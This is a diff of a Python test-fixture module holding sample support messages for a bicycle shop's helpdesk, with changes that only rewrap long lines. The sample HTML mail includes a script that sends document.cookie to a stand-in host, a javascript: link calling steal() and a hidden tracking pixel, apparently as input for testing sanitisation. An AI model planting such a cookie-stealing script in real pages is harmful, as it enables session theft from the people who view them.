@@ -4,7 +4,8 @@ from .company import SEED, pick
 
 MAIL_TEXT = """Hello,
 
-my new Fjell 3 arrived today but the front brake makes a noise like a goose. I tried what the manual says on page 14 & page 15, it did not help.
+my new Fjell 3 arrived today but the front brake makes a noise like a goose.
+I tried what the manual says on page 14 & page 15, it did not help.
 
 Is that covered by the warranty?
 
@@ -12,7 +13,22 @@ Best regards
 Anna Kvist"""
 
 # Quoted history, a signature block, a tracking pixel and a script: what mail programs really send.
-MAIL_HTML = """<div class="zd-comment" dir="auto"><div dir="ltr">Hello,<br><br>my new <b>Fjell 3</b> arrived today but the front brake makes a noise like a goose. I tried what the manual says on page 14 &amp; page 15, it did not help.<br><br>Is that covered by the warranty?<br></div><br><div class="gmail_signature" dir="ltr"><table border="0"><tr><td><img src="https://cdn.fjordmail.test/logo.png" width="120" alt="Fjordmail"></td><td>Best regards<br>Anna Kvist<br><a href="https://fjordmail.test/anna" rel="noreferrer">fjordmail.test/anna</a></td></tr></table></div><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 3 Mar 2026 at 09:15, Halden Bikes &lt;<a href="mailto:support@haldenbikes.test">support@haldenbikes.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex"><p>Your order HB-104417 is on its way.</p><script>document.location="https://pixel.fjordmail.test/?c="+document.cookie</script></blockquote></div><img src="https://pixel.fjordmail.test/open.gif?u=7781" width="1" height="1" style="display:none"><a href="javascript:alert(1)" onclick="steal()">unsubscribe</a></div>"""
+MAIL_HTML = (
+    '<div class="zd-comment" dir="auto"><div dir="ltr">Hello,<br><br>my new <b>Fjell 3</b> arrived today '
+    "but the front brake makes a noise like a goose.<br>I tried what the manual says on page 14 &amp; "
+    "page 15, it did not help.<br><br>Is that covered by the warranty?<br></div><br>"
+    '<div class="gmail_signature" dir="ltr"><table border="0"><tr>'
+    '<td><img src="https://cdn.fjordmail.test/logo.png" width="120" alt="Fjordmail"></td>'
+    '<td>Best regards<br>Anna Kvist<br><a href="https://fjordmail.test/anna" rel="noreferrer">'
+    "fjordmail.test/anna</a></td></tr></table></div>"
+    '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, 3 Mar 2026 at 09:15, Halden Bikes '
+    '&lt;<a href="mailto:support@haldenbikes.test">support@haldenbikes.test</a>&gt; wrote:<br></div>'
+    '<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px #ccc solid">'
+    "<p>Your order HB-104417 is on its way.</p>"
+    '<script>document.location="https://pixel.fjordmail.test/?c="+document.cookie</script></blockquote></div>'
+    '<img src="https://pixel.fjordmail.test/open.gif?u=7781" width="1" height="1" style="display:none">'
+    '<a href="javascript:alert(1)" onclick="steal()">unsubscribe</a></div>'
+)
 
 VOICEMAIL_TEXT = """Inbound call from +47 22 55 01 99
 
@@ -23,7 +39,10 @@ Length of phone call: 41 seconds
 Listen to the recording: https://haldenbikes.zendesk.com/api/v2/channels/voice/calls/CA0042/voicemails/RE0042"""
 
 # The backslashes are part of the text: Zendesk's telephone wrote them into descriptions.
-CALL_TEXT = r"Inbound call to +47 22 55 01 00\n\nCall from: +47 22 55 01 99\nAnswered by: Maryam Haddad\nLength of phone call: 6 minutes"
+CALL_TEXT = (
+    r"Inbound call to +47 22 55 01 00\n\nCall from: +47 22 55 01 99\nAnswered by: Maryam Haddad\n"
+    r"Length of phone call: 6 minutes"
+)
 
 CHAT_TEXT = """Chat started: 2026-06-02 10:51 AM UTC
 
@@ -126,7 +145,8 @@ def note_of(name: str) -> str:
 def very_long_text() -> str:
     """About 20 kB: the log of a bicycle computer, pasted into a mail."""
     lines = [
-        f"{place:04d}  {6 + place // 60:02d}:{place % 60:02d}  speed {12 + place * 7 % 23} km/h  battery {99 - place // 5} %  code {SEED}-{place * 31 % 997}"
+        f"{place:04d}  {6 + place // 60:02d}:{place % 60:02d}  speed {12 + place * 7 % 23} km/h"
+        f"  battery {99 - place // 5} %  code {SEED}-{place * 31 % 997}"
         for place in range(300)
     ]
     return "Here is the complete log of the display:\n\n" + "\n".join(lines) + "\n\nCan you see the fault?"
